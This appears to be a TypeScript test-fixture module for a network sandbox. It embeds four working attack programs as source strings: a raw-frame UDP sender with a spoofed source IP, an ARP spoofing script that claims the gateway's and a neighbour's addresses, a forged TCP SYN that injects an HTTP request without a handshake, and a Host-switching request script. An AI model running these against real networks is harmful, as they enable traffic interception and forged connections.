import type { Program } from './inside.ts';

/** Sends an Ethernet frame that holds a datagram in another's name, past the network stack: frame.c source target text. */
export const FRAME: Program = {
  name: 'frame.c',
  source: `
#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static unsigned short sum(const unsigned char *at, int length) {
  unsigned long total = 0;
  for (int i = 0; i < length; i += 2) total += at[i] << 8 | at[i + 1];
  while (total >> 16) total = (total & 0xffff) + (total >> 16);
  return ~total;
}

int main(int count, char **args) {
  unsigned char frame[256] = {0}, *ip = frame + 14, *udp = ip + 20;
  int length = strlen(args[3]), total = 20 + 8 + length;
  unsigned char mac[6];
  FILE *arp = popen("ip neigh show | sed -n 's/.*lladdr \\\\([0-9a-f:]*\\\\).*/\\\\1/p' | head -1", "r");
  unsigned int parts[6] = {255, 255, 255, 255, 255, 255};
  if (arp) fscanf(arp, "%x:%x:%x:%x:%x:%x", &parts[0], &parts[1], &parts[2], &parts[3], &parts[4], &parts[5]);
  for (int i = 0; i < 6; i++) frame[i] = parts[i], mac[i] = parts[i];
  frame[12] = 8;
  ip[0] = 0x45, ip[2] = total >> 8, ip[3] = total, ip[8] = 64, ip[9] = 17;
  inet_pton(AF_INET, args[1], ip + 12);
  inet_pton(AF_INET, args[2], ip + 16);
  unsigned short check = sum(ip, 20);
  ip[10] = check >> 8, ip[11] = check;
  udp[0] = 0x27, udp[1] = 0x0f, udp[2] = 7001 >> 8, udp[3] = 7001 & 255, udp[4] = (8 + length) >> 8, udp[5] = 8 + length;
  memcpy(udp + 8, args[3], length);
  int raw = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
  if (raw < 0) { perror("socket"); return 1; }
  struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = if_nametoindex("eth0"), .sll_halen = 6};
  memcpy(to.sll_addr, mac, 6);
  if (sendto(raw, frame, 14 + total, 0, (struct sockaddr *)&to, sizeof to) < 0) { perror("sendto"); return 1; }
  puts("sent");
  return 0;
}
`,
};

/** Claims the address of its gateway and of a neighbour by ARP: arp.py addresses… */
export const ARP: Program = {
  name: 'arp.py',
  source: `
import socket, struct, sys
raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806))
raw.bind(("eth0", 0))
own = raw.getsockname()[4]
for address in sys.argv[1:]:
    ip = socket.inet_aton(address)
    for operation in (1, 2):
        packet = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, operation, own, ip, b"\\xff" * 6, ip)
        raw.send(b"\\xff" * 6 + own + b"\\x08\\x06" + packet)
print("sent")
`,
};

/** A SYN of its own making to an address, from its own address or another: syn.py source target port */
export const SYN: Program = {
  name: 'syn.py',
  source: `
import socket, struct, sys
source, target, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
def check(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16: total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff
a, b = socket.inet_aton(source), socket.inet_aton(target)
def segment(flags, sequence, acknowledged, data=b""):
    head = struct.pack("!HHIIBBHHH", 4444, port, sequence, acknowledged, 0x50, flags, 64240, 0, 0)
    pseudo = a + b + struct.pack("!BBH", 0, 6, len(head) + len(data))
    padded = head + data + b"\\0" * (len(data) % 2)
    tcp = head[:16] + struct.pack("!H", check(pseudo + padded)) + head[18:] + data
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 1, 0, 64, 6, 0, a, b)
    return ip[:10] + struct.pack("!H", check(ip)) + ip[12:] + tcp
raw.sendto(segment(2, 1000, 0), (target, 0))
# Without having heard of the other side: an acknowledgement with a request.
raw.sendto(segment(0x18, 1001, 1, b"GET /forged HTTP/1.0\\r\\nHost: site.test\\r\\n\\r\\n"), (target, 0))
print("sent")
`,
};

/** Two requests on one connection, of which the second names another host: kept.py first second */
export const KEPT: Program = {
  name: 'kept.py',
  source: `
import socket, sys
def exchange(connection, host):
    connection.sendall(f"GET /kept HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n".encode())
    return connection.recv(4096).decode("latin1")
with socket.create_connection(("site.test", 80), 5) as connection:
    connection.settimeout(5)
    for host in sys.argv[1:]:
        try: print(exchange(connection, host).splitlines()[-1:], flush=True)
        except OSError as error: print("ended", error, flush=True)
`,
};
